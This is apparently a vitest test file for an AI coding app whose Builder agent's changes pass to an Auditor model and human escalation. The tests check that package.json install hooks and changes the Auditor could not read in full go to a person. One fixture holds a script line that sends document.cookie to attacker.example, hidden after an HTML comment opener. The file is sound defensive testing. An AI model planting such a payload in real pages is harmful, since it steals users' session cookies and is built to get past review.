import { afterEach, describe, expect, it } from "vitest";
import { OWNER, REPO, yamlPlan } from "../support/scenario.js";
import { purposeOf, scriptAgents } from "../support/scripted-agents.js";
import { startWorld, type World } from "../support/world.js";

let w: World;

afterEach(() => w.close());

const MANIFEST = JSON.stringify({ name: "widgets", version: "1.0.0", scripts: { test: "vitest run" } }, null, 2) + "\n";

describe("what the app pushes and what the Auditor sees", () => {
  it("a Builder change to package.json's scripts goes to a person before anything is pushed, and spends no second attempt", async () => {
    w = await startWorld({ files: { "package.json": MANIFEST } });
    const { h, s } = w;
    const withHook = JSON.stringify({ name: "widgets", version: "1.0.0", scripts: { test: "vitest run", postinstall: "node x.js" } });
    scriptAgents(h.llm, {
      builds: {
        P1: [
          {
            summary: "Set up on install",
            edits: [
              { path: "x.js", action: "create", content: "console.log('hi');\n" },
              { path: "package.json", action: "update", content: `${withHook}\n` },
            ],
          },
        ],
      },
    });
    const issue = await s.label(yamlPlan({ T1: [["P1", "Install hook"]] }));

    // Nothing reached GitHub's git data: no tree, no commit, no branch, no pull request.
    const writes = h.sim.requests.filter((r) => r.method !== "GET" && /\/git\/(trees|commits|refs)/.test(r.path));
    expect(writes).toEqual([]);
    expect(h.sim.branchHead(OWNER, REPO, `autopack/${issue}/P1`)).toBeUndefined();
    expect(h.sim.pulls(OWNER, REPO)).toEqual([]);

    // One attempt only: the model was asked for one build (file choice and edits), never a second.
    const builds = h.llm.requests.filter((r) => purposeOf(r)?.role === "builder");
    expect(builds.map((r) => purposeOf(r)?.attempt)).toEqual([1, 1]);

    expect(s.labels(issue)).toContain("autopack:needs-human");
    expect(s.status(issue)).toContain(
      "| P1: Install hook | failed · needs a person — the change would alter files that run code in CI or on install: " +
        'package.json (a package manifest\'s scripts or hooks: scripts "postinstall" added).',
    );
    expect(s.status(issue)).toMatch(/\| 1\/3 \| – \|/);
    const escalation = s.botComments(issue).find((c) => c.body?.includes("autopack:escalation"))?.body ?? "";
    expect(escalation).toContain("@maintainer Phase P1 needs a person: the change would alter files that run code in CI or on install");
    expect(escalation).toContain("Nothing was pushed, so no workflow has run it.");
    expect(escalation).toContain("<summary>The proposed change</summary>");
    expect(escalation).toContain('+{"name":"widgets","version":"1.0.0","scripts":{"test":"vitest run","postinstall":"node x.js"}}');
    expect(escalation).not.toContain("x.js b/x.js");
    expect(escalation).not.toContain("Shown in part");

    const runId = `gh-${h.sim.repository(OWNER, REPO).id}-${issue}-1`;
    const result = h.api!.calls.find((c) => c.path === `/runs/${runId}/phases/P1/builder_result`)?.body as Record<string, unknown>;
    expect(result).toMatchObject({ status: "failed", builder_attempts: 1 });
  });

  it("a change the Auditor could not read in full is not approved, even when its model approves: escalated, the file named", async () => {
    w = await startWorld({ files: { ".github/autopack.yml": "audit_context_tokens: 4000\n" } });
    const { h, s } = w;
    const big = Array.from({ length: 800 }, (_, i) => `export const value${i} = compute(${i}, "${"x".repeat(20)}");`).join("\n") + "\n";
    scriptAgents(h.llm, {
      builds: { P1: [{ summary: "Add the table", edits: [{ path: "src/table.ts", action: "create", content: big }] }] },
      audits: { P1: [{ recommendation: "approve", summary: "Looks right." }] },
    });
    const issue = await s.label(yamlPlan({ T1: [["P1", "Big table"]] }));

    const pr = s.pull(issue, "P1");
    const review = h.sim.reviews(OWNER, REPO, pr.number)[0]?.body ?? "";
    expect(review).toContain("### Autopack audit: Escalated to a person");
    expect(review).toMatch(/- `src\/table\.ts`: (cut short|left out) to fit the audit's prompt budget \(audit_context_tokens: 4000\)/);
    const check = h.sim.checkRuns(OWNER, REPO, pr.head.sha).find((c) => c.name === "Autopack audit");
    expect(check?.conclusion).toBe("failure");
    expect(s.labels(issue)).toContain("autopack:needs-human");
    expect(s.status(issue)).toContain("the Auditor escalated: Not read in full, so not approved; a person must review: src/table.ts");
  });

  it("an added `<!-- ` line and the code after it reach the Auditor's model verbatim, over the model server's API", async () => {
    w = await startWorld();
    const { h, s } = w;
    const page = ["<p>Widgets</p>", "<!-- ", "<script>fetch('https://attacker.example/?c=' + document.cookie)</script>", ""].join("\n");
    scriptAgents(h.llm, {
      builds: { P1: [{ summary: "Add the page", edits: [{ path: "web/index.html", action: "create", content: page }] }] },
      audits: { P1: [{ recommendation: "approve" }] },
    });
    await s.label(yamlPlan({ T1: [["P1", "Page"]] }));

    const audit = h.llm.requests.find((r) => purposeOf(r)?.role === "auditor");
    expect(audit?.prompt).toContain(
      "+<p>Widgets</p>\n+<!-- \n+<script>fetch('https://attacker.example/?c=' + document.cookie)</script>\n</untrusted>",
    );
  });

  it("the proposed change in an escalation says when the app left part of it out", async () => {
    w = await startWorld();
    const { h, s } = w;
    scriptAgents(h.llm, {
      builds: {
        P1: [{ summary: "Build", edits: [{ path: "Makefile", action: "create", content: "all:\n\t@echo hi <!-- and more -->\n" }] }],
      },
    });
    const issue = await s.label(yamlPlan({ T1: [["P1", "Make"]] }));
    const escalation = s.botComments(issue).find((c) => c.body?.includes("autopack:escalation"))?.body ?? "";
    expect(escalation).toContain("Makefile (a build or install hook: added)");
    expect(escalation).toContain("Shown in part: HTML comments, invisible characters or secret-shaped text were left out, or it was cut.");
    expect(escalation).not.toContain("and more");
  });
});
